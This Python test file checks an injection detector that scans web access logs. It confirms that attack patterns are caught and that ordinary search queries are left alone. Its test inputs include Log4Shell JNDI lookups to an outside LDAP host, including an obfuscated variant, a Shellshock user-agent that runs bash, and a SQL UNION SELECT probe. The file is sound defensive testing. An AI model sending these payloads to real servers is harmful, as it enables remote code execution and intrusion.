"""Every pattern, through the real statement: what must match does, what must not does not."""

import re
from typing import Any
from urllib.parse import quote as percent

from deepmoat.detect.detector import when
from deepmoat.detect.detectors.injection import COMMENT, FAMILIES, HEADERS, PATTERNS, Injection, expression
from deepmoat.detect.run import run
from deepmoat.model import Finding, Severity
from deepmoat.query.door import Door

START = 1_763_805_600.0
PROSE = (
    "q=select+a+union+rep",
    "q=union+of+soviet+republics+and+select+members",
    "q=how+do+I+write+%22or%22+in+french",
    "q=it%27s+mine+or+yours%3F+a%3Db",
    "q=caf%C3%A9+%26+bar;+rock%27n%27roll",
    "q=%E4%BD%A0%E5%A5%BD%2C%E4%B8%96%E7%95%8C",
    "q=drop+the+table+and+update+me",
    "redirect=https://chat.example/login%3Fnext%3D/home",
    "filter=price%3C100%20and%20price%3E10",
    "q=javascript+onload+event+%3D+what%3F",
    "q=script+for+a+movie+%28short%29",
    "email=a.b%2Bc%40chat.example&name=O%27Brien",
    "q=1+or+2+of+3&order=by+date",
    "state=eyJhIjoiYiJ9.%7B%22a%22%3A1%7D",
    "q=cat+food+%7C+dog+food",
    "range=bytes%3D0..1024&v=1.2..3",
    "q=insert+coin;update+score",
    "q=sleep+(8+hours)+benchmark",
    "tpl=%7B%7Bname%7D%7D&price=%24%7Bamount%7D",
    "q=what+is+/etc/+for+and+where+is+/bin",
    "q=what%20is%20a%20%27null%27%20or%20%27none%27%20value",
    "path=C%3A%5CUsers%5Cme&file=report..final.pdf",
    "q=-1&sort=-date&id=5--6",
    "utm_source=a&utm_campaign=b%7Cc%7Cd&x=(not%20set)",
    "q=C%2B%2B%20or%20C%23%20%3D%20which",
    "q=tom%20%26%26%20jerry%3B%20id%20card",
)


def asked(number: int, target: str, **more: Any) -> dict[str, Any]:
    path, _, query = target.partition("?")
    return {
        "logstore": "access",
        "time": START + number / 10,
        "client_address": client(number),
        "server_address": "chat.example",
        "url_path": path or "/search",
        "url_query": query,
        "http_response_status_code": 200,
    } | more


def client(number: int) -> str:
    return f"10.0.{number // 250}.{number % 250 + 1}"


def found(door: Door) -> dict[str, Finding]:
    findings = run(door, Injection(), when(START), when(START + 300), when(START + 300))
    return {f.subject[1]: f for f in findings}


def test_every_pattern_fires_on_its_attacks_and_spares_its_neighbours(door: Door, put: Any) -> None:
    fires = [(p.family, text) for p in PATTERNS for text in p.fires]
    spares = [text for p in PATTERNS for text in p.spares] + [f"?{text}" for text in PROSE]
    put(asked(n, text) for n, text in enumerate([*(t for _, t in fires), *spares]))
    findings = found(door)
    missed = [(f, text) for n, (f, text) in enumerate(fires) if client(n) not in findings]
    wrong = [text for n, text in enumerate(spares, len(fires)) if client(n) in findings]
    assert (missed, wrong) == ([], [])
    for n, (family, text) in enumerate(fires):
        assert FAMILIES[family] in findings[client(n)].summary, text
    assert len(fires) >= 30 and len(spares) >= 50, (len(fires), len(spares))


def test_attacks_are_found_when_encoded_once_more_and_in_capitals(door: Door, put: Any) -> None:
    attacks = [text for p in PATTERNS for text in p.fires if "?" in text and "%25" not in text]
    encoded = [text.split("?", 1)[0] + "?x=" + percent(text.split("?", 1)[1], safe="") for text in attacks]
    capitals = [re.sub(r"%..|[a-z]+", lambda m: m[0].upper(), text) for text in attacks]
    put(asked(n, text) for n, text in enumerate([*encoded, *capitals]))
    findings = found(door)
    assert [t for n, t in enumerate([*encoded, *capitals]) if client(n) not in findings] == []
    assert len(attacks) >= 20


def test_a_lookup_in_the_user_agent_or_referer_is_found(door: Door, put: Any) -> None:
    put(
        [
            asked(0, "/", user_agent_original="${jndi:ldap://198.51.100.7/a}"),
            asked(1, "/", http_request_referer="https://x.example/${${::-j}ndi:ldap://198.51.100.7/a}"),
            asked(2, "/", user_agent_original="() { :; }; /bin/bash -c id"),
            asked(3, "/", user_agent_original="Mozilla/5.0 (X11; Linux) price=$5 {x} (like Gecko)"),
            asked(4, "/", http_request_referer="https://search.example/?q=${amount}"),
        ]
    )
    findings = found(door)
    assert sorted(findings) == [client(0), client(1), client(2)]
    assert all(f.severity is Severity.HIGH for f in findings.values())


def test_one_attempt_is_likely_and_several_are_certain(door: Door, put: Any) -> None:
    attack = "/?id=1%20UNION%20SELECT%201"
    put([asked(0, attack), *(asked(n, attack, client_address="10.9.9.9") for n in (1, 2, 3))])
    findings = found(door)
    assert findings[client(0)].severity is Severity.MEDIUM
    assert findings[client(0)].cause == "injection:chat.example:likely"
    assert findings["10.9.9.9"].severity is Severity.HIGH
    assert findings["10.9.9.9"].count == 3


def test_every_family_has_patterns_and_every_expression_is_one_for_both_engines() -> None:
    assert {p.family for p in PATTERNS} == set(FAMILIES)
    for text in (*map(expression, FAMILIES), HEADERS.replace("~", r"\s"), COMMENT):
        re.compile(text)
    assert all(p.fires and p.spares for p in PATTERNS)
